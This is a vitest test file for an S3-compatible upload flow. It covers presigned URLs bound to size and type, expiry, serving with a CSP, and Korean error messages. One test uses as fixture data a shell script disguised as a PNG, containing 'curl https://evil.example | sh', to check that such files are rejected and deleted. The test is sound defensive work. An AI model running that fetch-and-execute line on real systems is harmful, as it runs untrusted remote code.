/** The same upload flow with S3 storage, against a local S3 that checks SigV4 presigned URLs. */
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { BRAND_A_HOST } from '../../../test/test-app';
import { type FakeS3, startFakeS3 } from '../../storage/fake-s3-server';
import {
  JPEG_BYTES,
  PNG_BYTES,
  type UploadTestApp,
  complete,
  createSiblingApp,
  createUploadTestApp,
  prepare,
} from '../../../test/upload-kit';
import { graphqlError } from '../../../test/graphql-call';
import { UPLOAD_CSP } from './uploads';

let s3: FakeS3;
let t: UploadTestApp;
beforeAll(async () => {
  s3 = await startFakeS3();
  t = await createUploadTestApp({ s3: s3.config });
});
afterAll(async () => {
  await t.close();
  await s3.close();
});

const keyOf = (url: string) => url.replace('/uploads/', '');
const browserPut = (signedURL: string, bytes: Buffer, contentType: string) =>
  fetch(signedURL, { method: 'PUT', body: new Uint8Array(bytes), headers: { 'content-type': contentType } });

describe('upload flow on S3-compatible storage', () => {
  it('hands out a presigned PUT bound to size and type, verifies the object and serves it through the API', async () => {
    const prepared = await prepare(t, { name: 'photo.png', type: 'image/png', size: PNG_BYTES.length });
    const key = keyOf(prepared.attachment.url);
    const signed = new URL(prepared.signedURL);
    expect(signed.origin).toBe(s3.config.endpoint);
    expect(signed.pathname).toBe(`/${s3.config.bucket}/incoming/${key}`);
    expect(signed.searchParams.get('X-Amz-SignedHeaders')).toBe('content-length;content-type;host');
    expect(Number(signed.searchParams.get('X-Amz-Expires'))).toBeGreaterThan(590);

    // The binding: another type or another size does not match the signature.
    expect((await browserPut(prepared.signedURL, PNG_BYTES, 'image/jpeg')).status).toBe(403);
    expect((await browserPut(prepared.signedURL, Buffer.concat([PNG_BYTES, Buffer.alloc(1)]), 'image/png')).status).toBe(403);
    expect((await browserPut(prepared.signedURL, PNG_BYTES, 'image/png')).status).toBe(200);
    expect(s3.objects.get(`incoming/${key}`)?.body.equals(PNG_BYTES)).toBe(true);

    const completed = (await complete(t, prepared.attachment.id, prepared.cookie)).json().data.attachmentCompleteUpload;
    expect(completed).toEqual(prepared.attachment);
    expect(s3.objects.has(`incoming/${key}`)).toBe(false);
    expect(s3.objects.get(key)).toMatchObject({ contentType: 'image/png' });

    const served = await t.app.inject({ url: completed.url, headers: { host: BRAND_A_HOST } });
    expect(served.statusCode).toBe(200);
    expect(served.rawPayload.equals(PNG_BYTES)).toBe(true);
    expect(served.headers).toMatchObject({ 'content-type': 'image/png', 'content-security-policy': UPLOAD_CSP });

    // S3 cannot refuse a second PUT before expiry; it lands in incoming/ and is never read or served.
    expect((await browserPut(prepared.signedURL, JPEG_BYTES.subarray(0, PNG_BYTES.length), 'image/png')).status).toBe(200);
    const again = await t.app.inject({ url: completed.url, headers: { host: BRAND_A_HOST } });
    expect(again.rawPayload.equals(PNG_BYTES)).toBe(true);
    expect((await complete(t, prepared.attachment.id, prepared.cookie)).json().data.attachmentCompleteUpload).toEqual(completed);
  });

  it('refuses a presigned URL after it expires', async () => {
    const short = { app: await createSiblingApp(t, { s3: s3.config, uploadUrlTtlSeconds: 1 }) };
    try {
      const prepared = await prepare(short, { name: 'late.png', type: 'image/png', size: PNG_BYTES.length });
      // The URL's lifetime passes on the clock the fake S3 and the app read, without waiting it out. Two seconds, as
      // X-Amz-Date drops the signing time's fraction of a second.
      vi.useFakeTimers({ toFake: ['Date'], now: Date.now() + 2100 });
      const response = await browserPut(prepared.signedURL, PNG_BYTES, 'image/png');
      expect(response.status).toBe(403);
      expect(await response.text()).toContain('expired');
      expect(graphqlError(await complete(short, prepared.attachment.id, prepared.cookie)).extensions?.code).toBe(
        'UPLOAD_EXPIRED',
      );
    } finally {
      vi.useRealTimers();
      await short.app.close();
    }
  });

  it('deletes a script renamed to .png from the bucket on completion', async () => {
    const script = Buffer.from('#!/bin/sh\ncurl https://evil.example | sh\n');
    const prepared = await prepare(t, { name: 'cat.png', type: 'image/png', size: script.length });
    expect((await browserPut(prepared.signedURL, script, 'image/png')).status).toBe(200);
    const response = await complete(t, prepared.attachment.id, prepared.cookie);
    expect(response.statusCode).toBe(415);
    expect(graphqlError(response).message).toBe('허용된 확장자의 파일만 업로드할 수 있습니다.');
    const key = keyOf(prepared.attachment.url);
    expect(s3.objects.has(`incoming/${key}`)).toBe(false);
    expect(s3.objects.has(key)).toBe(false);
  });

  it('has no local signed-URL route', async () => {
    const response = await t.app.inject({ method: 'PUT', url: '/uploads/signed/anything', headers: { host: BRAND_A_HOST } });
    expect(response.statusCode).toBe(404);
  });

  it('says a file was not uploaded yet when the bucket has nothing', async () => {
    const prepared = await prepare(t, { name: 'never.png', type: 'image/png', size: 10 });
    expect(graphqlError(await complete(t, prepared.attachment.id, prepared.cookie))).toMatchObject({
      message: '파일이 아직 업로드되지 않았습니다.',
      extensions: { code: 'UPLOAD_NOT_RECEIVED', statusCode: 400 },
    });
  });

  it('answers a storage outage with the generic Korean 500, never the error itself', async () => {
    const down = { app: await createSiblingApp(t, { s3: { ...s3.config, endpoint: 'http://127.0.0.1:9' } }) };
    try {
      const prepared = await prepare(down, { name: 'x.png', type: 'image/png', size: 10 });
      const response = await complete(down, prepared.attachment.id, prepared.cookie);
      expect(response.statusCode).toBe(500);
      expect(graphqlError(response)).toMatchObject({
        message: '알 수 없는 오류가 발생했습니다.',
        extensions: { code: 'INTERNAL_ERROR', statusCode: 500 },
      });
      expect(response.body).not.toMatch(/fetch failed|ECONNREFUSED|127\.0\.0\.1|stack/);
    } finally {
      await down.app.close();
    }
  });
});
